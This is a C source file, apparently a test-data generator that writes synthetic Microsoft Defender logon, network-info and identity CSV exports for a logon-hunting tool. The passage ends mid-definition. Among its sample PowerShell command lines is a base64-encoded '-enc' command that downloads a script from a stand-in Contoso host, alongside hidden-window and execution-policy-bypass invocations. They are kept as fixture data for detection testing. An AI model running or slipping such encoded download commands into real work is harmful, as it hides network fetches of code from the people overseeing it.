/*
 * lhgen - deterministic generator of synthetic Microsoft Defender
 * advanced-hunting CSV exports for logonhunt's tests, benchmarks and the
 * bundled sample data.
 *
 * It writes three files into OUTDIR, shaped like what the Defender portal's
 * "Export" button produces for a single-table query:
 *
 *   DeviceLogonEvents.csv     (48 columns, schema order)
 *   DeviceNetworkInfo.csv     (16 columns)
 *   IdentityLogonEvents.csv   (26 columns; the ISP column is named "ISP")
 *
 * Everything is derived from --seed through our own PRNG (xoshiro256**
 * seeded by splitmix64), never rand() or the clock, so the same seed and
 * arguments always give byte-identical files on every platform.  Each table
 * and the "world" (devices, accounts, IP pools) draw from separate streams,
 * so changing --identity does not reshuffle the logon rows.
 *
 * The data is built so that both anti-joins of the "Device Logons from
 * Unknown IPs" hunt really remove rows: some public IPs that appear as
 * RemoteIP are also assigned to devices (DeviceNetworkInfo.IPAddresses) and
 * some are seen in IdentityLogonEvents with an ISP that is not
 * INTERNAL_NETWORK.  --sample adds hand-designed rows for the five typical
 * false-positive scenarios plus a few genuinely suspicious hits; see
 * tests/gen/SCENARIOS.md.
 *
 * Only libc (plus POSIX mkdir) is used so the generator builds anywhere the
 * test suite runs.
 */
#define _POSIX_C_SOURCE 200809L

#include <errno.h>
#include <stddef.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))

/* ------------------------------------------------------------------ PRNG */

typedef struct {
    uint64_t s[4];
} rng_t;

static uint64_t splitmix64(uint64_t *x)
{
    uint64_t z = (*x += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}

/* Each logical stream gets its own state so that the tables are independent
 * of each other's row counts. */
static void rng_seed(rng_t *r, uint64_t seed, uint64_t stream)
{
    uint64_t x = seed ^ (stream * 0xD1B54A32D192ED03ULL);
    for (int i = 0; i < 4; i++)
        r->s[i] = splitmix64(&x);
}

static inline uint64_t rotl(uint64_t x, int k)
{
    return (x << k) | (x >> (64 - k));
}

static inline uint64_t rng_next(rng_t *r)
{
    uint64_t *s = r->s;
    uint64_t result = rotl(s[1] * 5, 7) * 9;
    uint64_t t = s[1] << 17;
    s[2] ^= s[0];
    s[3] ^= s[1];
    s[1] ^= s[2];
    s[0] ^= s[3];
    s[2] ^= t;
    s[3] = rotl(s[3], 45);
    return result;
}

/* Uniform integer in [0, n).  Multiply-shift on the top 32 bits; the bias
 * for the small n used here is far below anything that matters for test
 * data, and it avoids a division per call. */
static inline uint32_t rng_below(rng_t *r, uint32_t n)
{
    return (uint32_t)(((rng_next(r) >> 32) * (uint64_t)n) >> 32);
}

static inline uint32_t rng_range(rng_t *r, uint32_t lo, uint32_t hi)
{
    return lo + rng_below(r, hi - lo + 1);
}

static inline double rng_unit(rng_t *r)
{
    return (double)(rng_next(r) >> 11) * 0x1.0p-53;
}

static inline int rng_chance(rng_t *r, double p)
{
    return rng_unit(r) < p;
}

#define PICK(r, arr) ((arr)[rng_below((r), (uint32_t)ARRAY_LEN(arr))])

/* Stream numbers: fixed forever, changing them changes every output. */
enum {
    STREAM_WORLD = 1, STREAM_LOGON, STREAM_NETINFO, STREAM_IDENTITY, STREAM_SAMPLE,
    STREAM_EDGE_LOGON, STREAM_EDGE_NETINFO, STREAM_EDGE_IDENTITY
};

/* ------------------------------------------------------------ CSV writer */

/* A tiny buffered CSV writer.  Fields are appended straight into one large
 * buffer; nothing is allocated per field, which keeps a 1M-row run fast. */
typedef struct {
    FILE *f;
    const char *path;
    char *buf;
    size_t len, cap;
    int at_row_start;
    const char *eol;
    size_t eol_len;
} csvw_t;

static void die(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    fputs("lhgen: ", stderr);
    vfprintf(stderr, fmt, ap);
    fputc('\n', stderr);
    va_end(ap);
    exit(1);
}

static void w_flush(csvw_t *w)
{
    if (w->len && fwrite(w->buf, 1, w->len, w->f) != w->len)
        die("%s: write failed: %s", w->path, strerror(errno));
    w->len = 0;
}

static inline void w_reserve(csvw_t *w, size_t n)
{
    if (w->len + n > w->cap)
        w_flush(w);
}

static void w_raw(csvw_t *w, const char *s, size_t n)
{
    if (n > w->cap) {
        /* Larger than the whole buffer: bypass it. */
        w_flush(w);
        if (fwrite(s, 1, n, w->f) != n)
            die("%s: write failed: %s", w->path, strerror(errno));
        return;
    }
    w_reserve(w, n);
    memcpy(w->buf + w->len, s, n);
    w->len += n;
}

static inline void w_sep(csvw_t *w)
{
    if (!w->at_row_start) {
        w_reserve(w, 1);
        w->buf[w->len++] = ',';
    }
    w->at_row_start = 0;
}

/* RFC 4180 as the portal does it: quote only when the value contains a
 * comma, a double quote, CR or LF, and double any embedded quotes.  Control
 * characters such as ESC or BEL are *not* a reason to quote. */
static void w_field_n(csvw_t *w, const char *s, size_t n)
{
    w_sep(w);
    size_t quotes = 0;
    int need = 0;
    for (size_t i = 0; i < n; i++) {
        char c = s[i];
        if (c == '"') {
            quotes++;
            need = 1;
        } else if (c == ',' || c == '\r' || c == '\n') {
            need = 1;
        }
    }
    if (!need) {
        w_raw(w, s, n);
        return;
    }
    size_t total = n + quotes + 2;
    if (total > w->cap) {
        /* Pathologically long quoted field: write it in pieces. */
        w_raw(w, "\"", 1);
        for (size_t i = 0; i < n; i++) {
            w_raw(w, s + i, 1);
            if (s[i] == '"')
                w_raw(w, "\"", 1);
        }
        w_raw(w, "\"", 1);
        return;
    }
    w_reserve(w, total);
    char *o = w->buf + w->len;
    *o++ = '"';
    for (size_t i = 0; i < n; i++) {
        *o++ = s[i];
        if (s[i] == '"')
            *o++ = '"';
    }
    *o++ = '"';
    w->len = (size_t)(o - w->buf);
}

static inline void w_field(csvw_t *w, const char *s)
{
    w_field_n(w, s ? s : "", s ? strlen(s) : 0);
}

static inline void w_empty(csvw_t *w)
{
    w_sep(w);
}

/* Decimal formatting by hand: snprintf would dominate the profile. */
static size_t fmt_u64(char *o, uint64_t v)
{
    char tmp[24];
    size_t n = 0;
    do {
        tmp[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    for (size_t i = 0; i < n; i++)
        o[i] = tmp[n - 1 - i];
    return n;
}

static void w_u64(csvw_t *w, uint64_t v)
{
    char tmp[24];
    size_t n = fmt_u64(tmp, v);
    w_sep(w);
    w_raw(w, tmp, n);
}

static void w_end_row(csvw_t *w)
{
    w_raw(w, w->eol, w->eol_len);
    w->at_row_start = 1;
}

static void w_open(csvw_t *w, const char *dir, const char *name, int crlf, int bom)
{
    static char paths[3][4096];
    static int next;
    char *p = paths[next++ % 3];
    if ((size_t)snprintf(p, sizeof paths[0], "%s/%s", dir, name) >= sizeof paths[0])
        die("output path too long");
    w->path = p;
    w->f = fopen(p, "wb");
    if (!w->f)
        die("%s: %s", p, strerror(errno));
    w->cap = 1u << 20;
    w->buf = malloc(w->cap);
    if (!w->buf)
        die("out of memory");
    w->len = 0;
    w->at_row_start = 1;
    w->eol = crlf ? "\r\n" : "\n";
    w->eol_len = crlf ? 2 : 1;
    if (bom)
        w_raw(w, "\xEF\xBB\xBF", 3);
}

static void w_close(csvw_t *w)
{
    w_flush(w);
    if (fclose(w->f) != 0)
        die("%s: close failed: %s", w->path, strerror(errno));
    free(w->buf);
}

static void w_header(csvw_t *w, const char *const *cols, size_t n)
{
    for (size_t i = 0; i < n; i++)
        w_field(w, cols[i]);
    w_end_row(w);
}

/* ------------------------------------------------------------ timestamps */

/* Times are kept as 100 ns ticks since the Unix epoch, the resolution Kusto
 * datetimes have. */
#define TICKS_PER_SEC 10000000LL
#define TICKS_PER_DAY (86400LL * TICKS_PER_SEC)

/* Days since 1970-01-01 to civil date (Howard Hinnant's algorithm). */
static void civil_from_days(int64_t z, int *y, unsigned *m, unsigned *d)
{
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t yy = (int64_t)yoe + era * 400;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (int)(yy + (*m <= 2));
}

static inline void put2(char *o, unsigned v)
{
    o[0] = (char)('0' + v / 10);
    o[1] = (char)('0' + v % 10);
}

/* ISO 8601 UTC exactly as the portal writes datetimes: up to seven
 * fractional digits with trailing zeros trimmed, and no dot at all for a
 * whole second ("2023-12-21T19:56:05Z", "2023-12-21T18:11:09.574492Z"). */
static size_t fmt_ts(char *o, int64_t ticks)
{
    int64_t secs = ticks / TICKS_PER_SEC;
    unsigned frac = (unsigned)(ticks % TICKS_PER_SEC);
    int64_t days = secs / 86400;
    unsigned sod = (unsigned)(secs % 86400);
    int y;
    unsigned m, d;
    civil_from_days(days, &y, &m, &d);
    o[0] = (char)('0' + (y / 1000) % 10);
    o[1] = (char)('0' + (y / 100) % 10);
    o[2] = (char)('0' + (y / 10) % 10);
    o[3] = (char)('0' + y % 10);
    o[4] = '-';
    put2(o + 5, m);
    o[7] = '-';
    put2(o + 8, d);
    o[10] = 'T';
    put2(o + 11, sod / 3600);
    o[13] = ':';
    put2(o + 14, (sod / 60) % 60);
    o[16] = ':';
    put2(o + 17, sod % 60);
    size_t n = 19;
    if (frac) {
        o[n++] = '.';
        char digits[7];
        for (int i = 6; i >= 0; i--) {
            digits[i] = (char)('0' + frac % 10);
            frac /= 10;
        }
        int last = 6;
        while (digits[last] == '0')
            last--;
        memcpy(o + n, digits, (size_t)last + 1);
        n += (size_t)last + 1;
    }
    o[n++] = 'Z';
    return n;
}

static void w_ts(csvw_t *w, int64_t ticks)
{
    char tmp[40];
    size_t n = fmt_ts(tmp, ticks);
    w_sep(w);
    w_raw(w, tmp, n);
}

/* Real exports mix precisions: most events carry full 100 ns ticks, some
 * sources only report micro- or milliseconds, a few whole seconds.  The
 * trimming in fmt_ts then yields the 0..7 digit forms seen in the wild. */
static int64_t quantise_ts(rng_t *r, int64_t t)
{
    double u = rng_unit(r);
    if (u < 0.04)
        return t - t % TICKS_PER_SEC;
    if (u < 0.10)
        return t - t % 10000;
    if (u < 0.22)
        return t - t % 10;
    return t;
}

/* 2025-03-03T00:00:00Z: a Monday; the data covers the following week. */
#define BASE_TICKS (1740960000LL * TICKS_PER_SEC)
#define SPAN_TICKS (7 * TICKS_PER_DAY)

/* ----------------------------------------------------------------- utils */

static const char HEX[] = "0123456789abcdef";
static const char HEXU[] = "0123456789ABCDEF";

static void rand_hex(rng_t *r, char *o, size_t n, const char *alphabet)
{
    uint64_t bits = 0;
    int left = 0;
    for (size_t i = 0; i < n; i++) {
        if (left == 0) {
            bits = rng_next(r);
            left = 16;
        }
        o[i] = alphabet[bits & 15];
        bits >>= 4;
        left--;
    }
    o[n] = '\0';
}

static void rand_guid(rng_t *r, char *o)
{
    rand_hex(r, o, 36, HEX);
    o[8] = o[13] = o[18] = o[23] = '-';
    o[14] = '4';                      /* version 4 */
    o[19] = "89ab"[o[19] & 3];        /* RFC 4122 variant */
}

/* Hex digest derived from a name only (not from the seed): a given binary
 * has the same hash on every device and in every generated data set. */
static void name_hex(const char *name, uint64_t salt, char *o, size_t n)
{
    uint64_t h = 1469598103934665603ULL ^ salt;
    for (const char *p = name; *p; p++)
        h = (h ^ (unsigned char)*p) * 1099511628211ULL;
    rng_t r;
    rng_seed(&r, h, salt);
    rand_hex(&r, o, n, HEX);
}

static size_t fmt_ip4(char *o, uint32_t ip)
{
    size_t n = 0;
    for (int i = 3; i >= 0; i--) {
        n += fmt_u64(o + n, (ip >> (8 * i)) & 255);
        if (i)
            o[n++] = '.';
    }
    o[n] = '\0';
    return n;
}

#define IP4(a, b, c, d) (((uint32_t)(a) << 24) | ((uint32_t)(b) << 16) | ((uint32_t)(c) << 8) | (uint32_t)(d))

static size_t lower_ascii(char *dst, const char *src, size_t cap)
{
    size_t n = 0;
    for (; src[n] && n + 1 < cap; n++) {
        char c = src[n];
        dst[n] = (c >= 'A' && c <= 'Z') ? (char)(c - 'A' + 'a') : c;
    }
    dst[n] = '\0';
    return n;
}

/* Zipf-Mandelbrot weights 1/(k+1+q) turned into a cumulative table and
 * sampled by binary search, so a few keys dominate as in real traffic.
 * q = 0 is plain Zipf (s = 1); a larger q flattens the head.  Exponent 1 is
 * kept fixed so no libm is needed. */
typedef struct {
    double *cdf;
    uint32_t n;
} zipf_t;

static void zipf_init(zipf_t *z, uint32_t n, double q)
{
    z->n = n;
    z->cdf = malloc(sizeof(double) * n);
    if (!z->cdf)
        die("out of memory");
    double acc = 0;
    for (uint32_t k = 0; k < n; k++) {
        acc += 1.0 / ((double)k + 1.0 + q);
        z->cdf[k] = acc;
    }
    for (uint32_t k = 0; k < n; k++)
        z->cdf[k] /= acc;
}

static uint32_t zipf_draw(const zipf_t *z, rng_t *r)
{
    double u = rng_unit(r);
    uint32_t lo = 0, hi = z->n - 1;
    while (lo < hi) {
        uint32_t mid = lo + (hi - lo) / 2;
        if (z->cdf[mid] < u)
            lo = mid + 1;
        else
            hi = mid;
    }
    return lo;
}

/* ------------------------------------------------------------ the world */

typedef struct {
    const char *netbios; /* value of AccountDomain */
    const char *dns;     /* UPN suffix */
    const char *sid;     /* domain SID prefix */
} domain_t;

/* AccountDomain values seen in real data include NetBIOS names, DNS names
 * and empty strings; local accounts carry the device's short name. */
static const domain_t DOMAINS[] = {
    { "CONTOSO", "contoso.com", "S-1-5-21-1004336348-1177238915-682003330" },
    { "FABRIKAM", "fabrikam.com", "S-1-5-21-3623811015-3361044348-30300820" },
    { "contoso.local", "contoso.local", "S-1-5-21-2127521184-1604012920-1887927527" },
    { "", "contoso.com", "" },
};
enum { DOM_CONTOSO, DOM_FABRIKAM, DOM_CONTOSO_LOCAL, DOM_EMPTY, DOM_LOCAL /* device-local */ };

typedef struct {
    char id[41];
    char name[48];  /* FQDN, lower case */
    char shortname[24];
    uint32_t ip4;   /* primary private address */
    uint16_t ll6[4];
    int32_t public_ip; /* index into the public pool, or -1 */
    char mac[13];
    uint32_t local_sid[3];
    uint64_t report;   /* per-device ReportId counter */
    uint8_t kind;      /* 0 workstation, 1 laptop, 2 server, 3 DC */
} device_t;

typedef struct {
    char name[48];
    char display[64];
    char objid[37];
    uint32_t rid;
    uint8_t dom;
    uint8_t kind; /* 0 human, 1 service, 2 admin */
} account_t;

/* Public IP pool entry.  Flags say where else the IP shows up. */
enum {
    PUB_DEVICE = 1,     /* assigned to a device: removed by the first anti-join */
    PUB_ID_INTERNAL = 2, /* identity rows with ISP INTERNAL_NETWORK: NOT removed */
    PUB_ID_ISP = 4,     /* identity rows with an ISP name: removed */
    PUB_ID_EMPTY = 8,   /* identity rows with an empty ISP: removed */
};

typedef struct {
    char text[40];
    uint32_t acct;    /* the account this address is mostly used by */
    uint8_t ltype;    /* its usual logon type */
    uint8_t action;   /* its usual outcome */
    uint8_t flags;
    uint8_t v6;
} pubip_t;

static const char *const FIRST_ASCII[] = {
    "james", "mary", "john", "patricia", "robert", "jennifer", "michael", "linda",
    "david", "elizabeth", "william", "barbara", "richard", "susan", "joseph", "jessica",
    "thomas", "sarah", "charles", "karen", "daniel", "nancy", "matthew", "lisa",
    "anthony", "betty", "mark", "sandra", "anna", "lukas", "sofia", "mehmet",
    "maria", "ana", "raj", "priya", "wei", "yuki", "hiroshi", "olga",
    "dmitri", "fatima", "omar", "ingrid", "emma", "noah", "liam", "olivia",
    "lars", "nina", "marco", "giulia", "pierre", "claire", "ahmed", "leila",
};
static const char *const FIRST_INTL[] = {
    "josé", "maría", "françois", "zoë", "jürgen", "søren", "łukasz", "chloé",
    "andré", "björn", "øystein", "ayşe", "pål", "renée", "nuño", "ólafur", "jiří", "małgorzata",
};
static const char *const LAST_ASCII[] = {
    "smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis",
    "rodriguez", "martinez", "hernandez", "lopez", "wilson", "anderson", "taylor", "thomas",
    "moore", "jackson", "martin", "lee", "kowalski", "nowak", "schmidt", "schneider",
    "fischer", "weber", "rossi", "russo", "dupont", "nakamura", "tanaka", "kim",
    "park", "chen", "wang", "singh", "patel", "kumar", "ivanov", "nagy",
    "o'brien", "murphy", "kelly", "walsh", "byrne", "brennan", "hansen", "larsen",
    "bianchi", "moreau", "silva", "santos", "kaya", "demir", "berg", "lund",
};
static const char *const LAST_INTL[] = {
    "müller", "lefèvre", "garcía", "pérez", "gonzález", "núñez", "yılmaz", "ødegård",
    "sørensen", "dvořák", "kovács", "wróbel", "böhm", "çelik", "françois", "åberg",
};
static const char *const SVC_ROLES[] = {
    "sql", "sqlagent", "iis", "sharepoint", "exchange", "scom", "sccm", "print",
    "web", "crm", "ftp", "jenkins", "build", "monitor", "adfs", "radius",
    "ldapbind", "scan", "report", "etl", "tableau", "wsus", "citrix", "vmware",
};
static const char *const SRV_ROLES[] = {
    "sql", "app", "web", "file", "print", "exch", "sp", "rds", "bkp", "ca", "wsus", "jump",
};
static const char *const DEVICE_SUFFIX[] = { "contoso.com", "contoso.com", "contoso.com", "fabrikam.com", "corp.contoso.local" };

/* First octets used for the random public pool, for identity-only public
 * addresses, and (implicitly: everything else) for the hand-written sample
 * rows.  Keeping these disjoint guarantees that the --sample scenario IPs
 * never collide with a device-assigned or identity-seen address, so they
 * always survive both anti-joins.  All are ordinary globally routed /8s;
 * none is private, shared, reserved or a documentation range. */
static const uint8_t POOL_OCTETS[] = {
    23, 31, 37, 46, 62, 77, 78, 79, 80, 81, 82, 83, 84, 85, 86, 87, 89, 93, 94, 95,
    103, 109, 110, 111, 112, 113, 114, 115, 116, 117, 118, 119, 121, 122, 123, 124,
    125, 138, 139, 141, 142, 143, 144, 146, 147, 149, 151, 152, 154, 156, 158, 159,
    160, 161, 162, 163, 164, 165, 166, 167, 168, 170, 171, 173, 174, 175, 176, 177,
    178, 179, 180, 181, 182, 183, 186, 187, 188, 189, 190, 191, 195, 196, 197, 200,
    201, 202, 210, 211, 212, 213, 217, 218, 219, 220, 221, 222,
};
static const uint8_t IDONLY_OCTETS[] = { 24, 50, 66, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76, 96, 97, 98, 99, 107, 108 };
static const uint16_t POOL_V6_PREFIX[] = { 0x2a00, 0x2a01, 0x2a02, 0x2a03, 0x2a04, 0x2a05, 0x2400, 0x2404, 0x2600, 0x2604 };
static const uint16_t IDONLY_V6_PREFIX[] = { 0x2601, 0x2607 };

static const char *const ISP_NAMES[] = {
    "Comcast Cable Communications, LLC", "Deutsche Telekom AG", "Orange S.A.", "Vodafone GmbH",
    "Verizon Business", "AT&T Services, Inc.", "British Telecommunications PLC", "Telefonica de Espana",
    "Charter Communications Inc", "Microsoft Corporation", "Amazon.com, Inc.", "Free SAS",
    "Telia Company AB", "KPN B.V.", "Swisscom (Schweiz) AG",
};
static const char *const LOCATIONS[] = { "US", "DE", "FR", "GB", "NL", "ES", "SE", "CH", "PL", "IN", "JP", "BR" };

static size_t fmt_v6(char *o, const uint16_t *g, int ng_prefix, const uint16_t *tail, int ng_tail)
{
    /* prefix groups, "::", tail groups: with 2..3 tail groups and 3..4
     * prefix groups at least two zero groups are compressed, and every
     * written group is non-zero, so this is the RFC 5952 canonical form. */
    size_t n = 0;
    for (int i = 0; i < ng_prefix; i++) {
        if (i)
            o[n++] = ':';
        n += (size_t)sprintf(o + n, "%x", g[i]);
    }
    o[n++] = ':';
    o[n++] = ':';
    for (int i = 0; i < ng_tail; i++) {
        if (i)
            o[n++] = ':';
        n += (size_t)sprintf(o + n, "%x", tail[i]);
    }
    o[n] = '\0';
    return n;
}

static void rand_public_v4(rng_t *r, char *o, const uint8_t *octets, size_t noct)
{
    uint32_t a = octets[rng_below(r, (uint32_t)noct)];
    fmt_ip4(o, IP4(a, rng_below(r, 256), rng_below(r, 256), rng_range(r, 1, 254)));
}

static void rand_public_v6(rng_t *r, char *o, const uint16_t *prefixes, size_t np)
{
    uint16_t g[4], t[3];
    int ngp = 3 + (int)rng_below(r, 2);
    int ngt = 2 + (int)rng_below(r, 2);
    g[0] = prefixes[rng_below(r, (uint32_t)np)];
    for (int i = 1; i < ngp; i++)
        g[i] = (uint16_t)rng_range(r, 1, 0xffff);
    for (int i = 0; i < ngt; i++)
        t[i] = (uint16_t)rng_range(r, 1, 0xffff);
    fmt_v6(o, g, ngp, t, ngt);
}

/* ------------------------------------------------- initiating processes */

typedef struct {
    const char *file, *folder, *company, *product, *version, *desc;
    const char *cmdline;
    const char *parent;
    const char *integrity, *elevation;
    uint32_t size;
    int system; /* runs as NT AUTHORITY\SYSTEM (else as the logging-on user) */
    char sha1[41], sha256[65], md5[33];
} proc_t;

enum {
    P_LSASS, P_SVCHOST_USERMGR, P_SVCHOST_SCHEDULE, P_WINLOGON, P_SERVICES, P_SVCHOST_TERM,
    P_POWERSHELL, P_TASKHOSTW, P_CONSENT, P_SSHD, P_MSSENSE, P_VEEAM, P_SPLUNKD, P_WECSVC,
    P_COMMVAULT, P_MSRA, P_COUNT
};

#define MS "Microsoft Corporation"
#define WINOS "Microsoft\xC2\xAE Windows\xC2\xAE Operating System"

static proc_t PROCS[P_COUNT] = {
    [P_LSASS] = { "lsass.exe", "C:\\Windows\\System32\\lsass.exe", MS, WINOS, "10.0.20348.2227",
                  "Local Security Authority Process", "lsass.exe", "wininit.exe", "System",
                  "TokenElevationTypeDefault", 84192, 1, "", "", "" },
    [P_SVCHOST_USERMGR] = { "svchost.exe", "C:\\Windows\\System32\\svchost.exe", MS, WINOS, "10.0.22621.1",
                            "Host Process for Windows Services", "svchost.exe -k netsvcs -p -s UserManager",
                            "services.exe", "System", "TokenElevationTypeDefault", 79920, 1, "", "", "" },
    [P_SVCHOST_SCHEDULE] = { "svchost.exe", "C:\\Windows\\System32\\svchost.exe", MS, WINOS, "10.0.20348.1",
                             "Host Process for Windows Services", "svchost.exe -k netsvcs -p -s Schedule",
                             "services.exe", "System", "TokenElevationTypeDefault", 57360, 1, "", "", "" },
    [P_WINLOGON] = { "winlogon.exe", "C:\\Windows\\System32\\winlogon.exe", MS, WINOS, "10.0.22621.2506",
                     "Windows Logon Application", "winlogon.exe", "smss.exe", "System",
                     "TokenElevationTypeDefault", 906240, 1, "", "", "" },
    [P_SERVICES] = { "services.exe", "C:\\Windows\\System32\\services.exe", MS, WINOS, "10.0.20348.2031",
                     "Services and Controller app", "services.exe", "wininit.exe", "System",
                     "TokenElevationTypeDefault", 719632, 1, "", "", "" },
    [P_SVCHOST_TERM] = { "svchost.exe", "C:\\Windows\\System32\\svchost.exe", MS, WINOS, "10.0.20348.1",
                         "Host Process for Windows Services", "svchost.exe -k termsvcs -s TermService",
                         "services.exe", "System", "TokenElevationTypeDefault", 57360, 1, "", "", "" },
    [P_POWERSHELL] = { "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", MS,
                       WINOS, "10.0.20348.1", "Windows PowerShell", NULL, "svchost.exe", "High",
                       "TokenElevationTypeDefault", 450560, 0, "", "", "" },
    [P_TASKHOSTW] = { "taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe", MS, WINOS, "10.0.22621.2506",
                      "Host Process for Windows Tasks", "taskhostw.exe KEYROAMING", "svchost.exe", "Medium",
                      "TokenElevationTypeLimited", 101376, 0, "", "", "" },
    [P_CONSENT] = { "consent.exe", "C:\\Windows\\System32\\consent.exe", MS, WINOS, "10.0.22621.2861",
                    "Consent UI for administrative applications", "consent.exe 6420 362 0000021D4C1A2B30",
                    "svchost.exe", "System", "TokenElevationTypeDefault", 162304, 1, "", "", "" },
    [P_SSHD] = { "sshd.exe", "C:\\Windows\\System32\\OpenSSH\\sshd.exe", "", "OpenSSH for Windows", "9.5.0.0",
                 "", "\"C:\\Windows\\System32\\OpenSSH\\sshd.exe\" -R", "sshd.exe", "System",
                 "TokenElevationTypeDefault", 1282048, 1, "", "", "" },
    [P_MSSENSE] = { "MsSense.exe", "C:\\Program Files\\Windows Defender Advanced Threat Protection\\MsSense.exe",
                    MS, WINOS, "10.8760.20348.2227",
                    "Windows Defender Advanced Threat Protection Service Executable",
                    "\"MsSense.exe\"", "services.exe", "System", "TokenElevationTypeDefault", 4418416, 1,
                    "", "", "" },
    [P_VEEAM] = { "Veeam.Backup.Service.exe",
                  "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe",
                  "Veeam Software Group GmbH", "Veeam Backup & Replication", "12.1.1.56",
                  "Veeam Backup Service",
                  "\"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe\"",
                  "services.exe", "System", "TokenElevationTypeDefault", 83344, 1, "", "", "" },
    [P_SPLUNKD] = { "splunkd.exe", "C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe", "Splunk Inc.",
                    "splunk Application", "9.1.2.0", "splunk Application",
                    "\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe\" service",
                    "services.exe", "System", "TokenElevationTypeDefault", 62617448, 1, "", "", "" },
    [P_WECSVC] = { "svchost.exe", "C:\\Windows\\System32\\svchost.exe", MS, WINOS, "10.0.20348.1",
                   "Host Process for Windows Services", "svchost.exe -k NetworkService -p -s Wecsvc",
                   "services.exe", "System", "TokenElevationTypeDefault", 57360, 1, "", "", "" },
    [P_COMMVAULT] = { "cvd.exe", "C:\\Program Files\\Commvault\\ContentStore\\Base\\cvd.exe", "Commvault",
                      "Commvault", "11.32.40.0", "Commvault Communications Service (CVD)",
                      "\"C:\\Program Files\\Commvault\\ContentStore\\Base\\cvd.exe\" -serviceName GxCVD(Instance001)",
                      "services.exe", "System", "TokenElevationTypeDefault", 1921952, 1, "", "", "" },
    [P_MSRA] = { "msra.exe", "C:\\Windows\\System32\\msra.exe", MS, WINOS, "10.0.22621.1",
                 "Windows Remote Assistance", "\"C:\\Windows\\System32\\msra.exe\" /offerRA",
                 "explorer.exe", "Medium", "TokenElevationTypeLimited", 651264, 0, "", "", "" },
};

/* PowerShell command lines, including the awkward ones the CSV layer has
 * to survive: embedded quotes, commas, CRLF and bare CR line breaks (the
 * last one mirrors a real portal export). */
static const char *const PS_CMDLINES[] = {
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\Inventory.ps1",
    "powershell.exe -NoLogo -NonInteractive -WindowStyle Hidden -File \"C:\\Program Files\\Contoso\\Agent\\health.ps1\"",
    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NonInteractive -Command \"Get-Service -Name WinRM, LanmanServer | Select-Object Name, Status\"",
    "powershell.exe -Command \"Write-Host \"\"Patch window: 02:00, Sunday\"\"; Restart-Computer -Force\"",
    "\"powershell.exe\" \"-Command \r\n$version='1.0.0.0'\r\n$application='CitrixVPN'\r\n$path=[Environment]::GetFolderPath('ProgramFiles')\r\nif (Test-Path \"$path\\Citrix\") { exit 0 } else { exit 1 }\"",
    "\"powershell.exe\" \"-Command \r\r\r$ErrorActionPreference='Stop'\r$svc=Get-Service, 'Spooler'\r\"",
    "powershell.exe -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgAGgAdAB0AHAAcwA6AC8ALwB1AHAAZABhAHQAZQAuAGMAbwBuAHQAbwBzAG8ALgBjAG8AbQAvAGEAZwBlAG4AdAAuAHAAcwAxAA==",
};
/* The tricky command lines are rarer than the plain ones. */
static const double PS_WEIGHTS[] = { 0.35, 0.25, 0.12, 0.08, 0.08, 0.04, 0.08 };

static void procs_init(void)
{
    for (int i = 0; i < P_COUNT; i++) {
        proc_t *p = &PROCS[i];
        name_hex(p->folder, 1, p->sha1, 40);
        name_hex(p->folder, 2, p->sha256, 64);
        name_hex(p->folder, 3, p->md5, 32);
    }
}

static const char *pick_ps_cmdline(rng_t *r)
{
    double u = rng_unit(r), acc = 0;
    for (size_t i = 0; i < ARRAY_LEN(PS_CMDLINES); i++) {
        acc += PS_WEIGHTS[i];
        if (u < acc)
            return PS_CMDLINES[i];
    }
    return PS_CMDLINES[0];
}

/* ------------------------------------------------------------- the logon */

enum { LT_NETWORK, LT_REMOTEINTERACTIVE, LT_INTERACTIVE, LT_BATCH, LT_SERVICE, LT_UNLOCK, LT_CACHED, LT_COUNT };
static const char *const LOGON_TYPES[LT_COUNT] = {
    "Network", "RemoteInteractive", "Interactive", "Batch", "Service", "Unlock", "CachedInteractive",
};
enum { AT_SUCCESS, AT_FAILED, AT_ATTEMPTED };
static const char *const ACTIONS[] = { "LogonSuccess", "LogonFailed", "LogonAttempted" };
static const char *const FAILURE_REASONS[] = {
    "InvalidUserNameOrPassword", "InvalidUserNameOrPassword", "InvalidUserNameOrPassword",
    "InvalidUserNameOrPassword", "WrongPassword", "AccountLocked", "AccountDisabled",
    "PasswordExpired", "UserLogonTypeNotGranted",
};

/* Everything one DeviceLogonEvents row needs.  Strings either point at
 * static/world data or into the scratch buffers at the end. */
typedef struct {
    int64_t ts;
    device_t *dev;
    const char *action, *ltype, *adom, *aname, *asid, *proto, *freason;
    int isadmin; /* -1 empty */
    uint64_t logonid; /* 0 = empty */
    const char *rdev, *rip, *riptype;
    int rport; /* -1 empty */
    const proc_t *proc; /* NULL = no initiating process (remote network logon) */
    const char *cmdline;
    const char *ip_adom, *ip_aname, *ip_asid, *ip_upn, *ip_objid;
    uint32_t pid, ppid;
    int64_t pctime, ppctime;
    const char *addl;
    int session; /* -1 empty */
